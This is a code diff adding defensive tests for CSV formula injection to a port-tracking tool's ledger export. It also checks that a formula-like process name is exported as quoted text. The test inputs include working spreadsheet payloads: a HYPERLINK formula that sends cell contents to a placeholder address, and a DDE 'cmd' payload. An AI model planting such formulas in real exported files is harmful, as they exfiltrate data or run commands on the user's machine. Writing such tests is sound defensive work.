@@ -19,8 +19,11 @@ import time
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from fixtures_bad_input import assert_usage_error, run_main
+from portkit._spreadsheet import FORMULA_STARTS, csv_field, spreadsheet_text, write_csv_row
 from portkit.ledger import (
     INVENTORY,
     MIGRATIONS,
@@ -669,3 +672,70 @@ def test_a_snapshot_of_one_namespace_says_nothing_of_the_others(tmp_path: Path) 
     assert [(p["netns"], p["port"], p["changes"]) for p in gone["ports"] if p["netns"] == name] == [
         (name, port, ["closed"])
     ]
+
+
+# --- CSV export: formula injection ----------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_field_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(start: str) -> None:
+    value = f"{start}HYPERLINK(\"http://192.0.2.1/?\"&A1)"
+    field = next(csv.reader(io.StringIO(csv_field(value) + "\n")))
+    assert field == ["'" + value]
+    assert csv_field("sshd") == "sshd" and csv_field("a=b") == "a=b" and csv_field(-1) == "-1"
+
+
+@given(st.lists(st.one_of(st.text(), st.integers(min_value=0)), min_size=1, max_size=5))
+def test_csv_rows_read_back_as_the_values_with_no_cell_a_formula(values: list[str | int]) -> None:
+    out = io.StringIO()
+    write_csv_row(out, values)
+    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    assert row == [str(v) if isinstance(v, int) else spreadsheet_text(v) for v in values]
+    assert not [f for f in row if f[:1] in FORMULA_STARTS]
+
+
+def test_a_csv_field_holding_a_semicolon_is_quoted_so_no_locale_splits_it() -> None:
+    # Spreadsheets in locales whose list separator is ";" split an unquoted field there.
+    assert csv_field("nginx/1; =cmd|'/c calc'!A1/2") == "\"nginx/1; =cmd|'/c calc'!A1/2\""
+    assert csv_field('say "hi", then') == '"say ""hi"", then"'
+
+
+def test_a_process_named_like_a_formula_is_exported_as_text_in_csv_and_raw_in_json(tmp_path: Path) -> None:
+    """A real listener whose process name (any user sets it) starts a spreadsheet formula."""
+    db = str(tmp_path / "ledger.db")
+    name = "=HYPERLINK(1,2)"  # 15 bytes, the most /proc/PID/comm holds
+    child = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            textwrap.dedent(f"""
+                import socket, sys
+                open("/proc/self/comm", "w").write({name!r})
+                s = socket.socket()
+                s.bind(("127.0.0.1", 0))
+                s.listen()
+                print(s.getsockname()[1], flush=True)
+                sys.stdin.read()
+            """),
+        ],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert child.stdout is not None
+        port = int(child.stdout.readline())
+        recorded = run_main("ls", "--record", "--db", db, "--json")
+        assert recorded.status == 0, recorded.stderr
+    finally:
+        child.kill()
+        child.wait()
+    exported = run_main("ledger", "export", "--csv", "--db", db)
+    assert exported.status == 0, exported.stderr
+    (row,) = [r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["port"] == str(port)]
+    assert row["owners"] == f"'{name}/{child.pid}"
+    every_field = [f for r in csv.reader(io.StringIO(exported.stdout)) for f in r]
+    assert not [f for f in every_field if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    doc = json.loads(run_main("ledger", "export", "--json", "--db", db).stdout)
+    (fact_doc,) = [f for o in doc["observations"] for f in o["facts"] if f["port"] == port]
+    assert fact_doc["owners"][0]["name"] == name
